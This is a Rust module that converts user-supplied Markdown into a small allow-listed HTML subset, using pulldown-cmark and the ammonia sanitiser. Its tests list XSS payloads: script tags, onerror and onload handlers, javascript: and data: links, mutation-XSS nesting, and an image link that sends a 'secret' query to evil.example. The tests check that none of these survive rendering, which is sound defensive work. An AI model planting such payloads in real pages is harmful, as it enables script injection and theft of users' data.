//! Markdown of an answer to HTML behind the `Markup` port. The text may be an attacker's: two walls stand here, a
//! renderer that turns foreign HTML and images into plain text, and a sanitiser with a short list of what may pass.

use std::{
    collections::{HashMap, HashSet},
    sync::LazyLock,
};

use pulldown_cmark::{CowStr, Event, HeadingLevel, LinkType, Options, Parser, Tag, TagEnd, html};
use regex::Regex;

use crate::service::ports::Markup;

/// The subset: paragraphs, line breaks, emphasis, lists, quotes, code, links.
#[derive(Clone, Copy, Debug, Default)]
pub struct Markdown;

impl Markup for Markdown {
    fn to_html(&self, markdown: &str) -> String {
        let mut rendered = String::with_capacity(markdown.len() + markdown.len() / 4);
        html::push_html(&mut rendered, inert(markdown));
        CLEANER.clean(&rendered).to_string().trim_end().to_owned()
    }
}

static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut cleaner = ammonia::Builder::empty();
    cleaner
        .tags(HashSet::from(["p", "br", "strong", "em", "del", "ul", "ol", "li", "blockquote", "code", "pre", "a"]))
        .tag_attributes(HashMap::from([("a", HashSet::from(["href"])), ("ol", HashSet::from(["start"]))]))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow ugc"))
        .set_tag_attribute_value("a", "target", "_blank");
    cleaner
});

/// An address in plain words, without the punctuation that ends a sentence.
static BARE_LINK: LazyLock<Regex> = LazyLock::new(|| {
    #[expect(clippy::expect_used, reason = "a constant that the tests compile")]
    Regex::new(r#"https?://[^\s<>"']*[^\s<>"'.,;:!?)\]}*_]"#).expect("a regular expression")
});

/// The events of the text without anything that is not words: HTML becomes text, images their description, headings paragraphs.
fn inert(markdown: &str) -> impl Iterator<Item = Event<'_>> {
    let mut in_link = 0_u32;
    let mut in_code = false;
    Parser::new_ext(markdown, Options::ENABLE_STRIKETHROUGH).flat_map(move |event| {
        match &event {
            Event::Start(Tag::Link { .. }) => in_link += 1,
            Event::End(TagEnd::Link) => in_link = in_link.saturating_sub(1),
            Event::Start(Tag::CodeBlock(_)) => in_code = true,
            Event::End(TagEnd::CodeBlock) => in_code = false,
            _ => {}
        }
        match event {
            Event::Text(text) if in_link == 0 && !in_code => linked(text),
            other => tamed(other),
        }
    })
}

fn tamed(event: Event<'_>) -> Vec<Event<'_>> {
    match event {
        Event::Html(text) | Event::InlineHtml(text) => vec![Event::Text(text)],
        Event::SoftBreak => vec![Event::HardBreak],
        Event::Rule => vec![],
        Event::Start(Tag::Image { .. } | Tag::HtmlBlock) | Event::End(TagEnd::Image | TagEnd::HtmlBlock) => vec![],
        Event::Start(Tag::Heading { .. }) => vec![Event::Start(Tag::Paragraph), Event::Start(Tag::Strong)],
        Event::End(TagEnd::Heading(
            HeadingLevel::H1 | HeadingLevel::H2 | HeadingLevel::H3 | HeadingLevel::H4 | HeadingLevel::H5 | HeadingLevel::H6,
        )) => {
            vec![Event::End(TagEnd::Strong), Event::End(TagEnd::Paragraph)]
        }
        other => vec![other],
    }
}

/// Makes addresses in plain words clickable.
fn linked(text: CowStr<'_>) -> Vec<Event<'_>> {
    if !text.contains("://") {
        return vec![Event::Text(text)];
    }
    let mut events = vec![];
    let mut rest = 0;
    for found in BARE_LINK.find_iter(&text) {
        events.push(Event::Text(text[rest..found.start()].to_owned().into()));
        let address: CowStr<'_> = found.as_str().to_owned().into();
        events.push(Event::Start(Tag::Link { link_type: LinkType::Autolink, dest_url: address.clone(), title: "".into(), id: "".into() }));
        events.push(Event::Text(address));
        events.push(Event::End(TagEnd::Link));
        rest = found.end();
    }
    events.push(Event::Text(text[rest..].to_owned().into()));
    events
}

#[cfg(test)]
mod tests {
    use super::*;

    fn html(markdown: &str) -> String {
        Markdown.to_html(markdown)
    }

    #[test]
    fn the_subset_is_rendered() {
        assert_eq!(html("Hi **Ana**,\nsee *this*"), "<p>Hi <strong>Ana</strong>,<br>\nsee <em>this</em></p>");
        assert_eq!(html("- one\n- two"), "<ul>\n<li>one</li>\n<li>two</li>\n</ul>");
        assert_eq!(html("3. three"), "<ol start=\"3\">\n<li>three</li>\n</ol>");
        assert_eq!(html("# Prices"), "<p><strong>Prices</strong></p>");
        assert_eq!(html("`a<b`"), "<p><code>a&lt;b</code></p>");
    }

    #[test]
    fn addresses_become_links_without_the_full_stop() {
        let link = "<a href=\"https://example.com/a\" target=\"_blank\" rel=\"noopener noreferrer nofollow ugc\">";
        assert_eq!(html("See https://example.com/a."), format!("<p>See {link}https://example.com/a</a>.</p>"));
        assert_eq!(html("[here](https://example.com/a)"), format!("<p>{link}here</a></p>"));
        assert!(!html("`https://example.com/a`").contains("<a"));
    }

    #[test]
    fn nothing_runs_and_nothing_loads_by_itself() {
        for attack in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![x](https://evil.example/?q=secret)",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](vbscript:msgbox)",
            "[x](//evil.example)",
            "<a href=\"https://evil.example\" onclick=\"x()\">a</a>",
            "<iframe src=https://evil.example></iframe>",
            "<svg/onload=alert(1)>",
            "<style>*{background:url(https://evil.example)}</style>",
            "<form action=https://evil.example><input name=x>",
            "<base href=https://evil.example>",
            "<meta http-equiv=refresh content=0;url=https://evil.example>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "[x](https://a.example\" onmouseover=\"alert(1))",
            "```html\n<script>alert(1)</script>\n```",
            "<p style=\"position:fixed\">x</p>",
        ] {
            let html = html(attack);
            for forbidden in [
                "<script",
                "<img",
                "<iframe",
                "<svg",
                "<style",
                "<form",
                "<base",
                "<meta",
                "<input",
                "<math",
                "style=",
                "href=\"javascript",
                "href=\"data",
                "href=\"vbscript",
                "href=\"//",
            ] {
                assert!(!html.to_lowercase().contains(forbidden) || html.contains("&lt;"), "{attack} -> {html}");
            }
            let tags: Vec<&str> =
                html.split('<').skip(1).filter_map(|rest| rest.split(['>', ' ', '/']).find(|name| !name.is_empty())).collect();
            assert!(
                tags.iter().all(|tag| ["p", "br", "strong", "em", "del", "ul", "ol", "li", "blockquote", "code", "pre", "a"].contains(tag)),
                "{attack} -> {html}"
            );
        }
    }

    #[test]
    fn an_image_is_its_description() {
        assert_eq!(html("![our shop](https://evil.example/x.png)"), "<p>our shop</p>");
    }
}
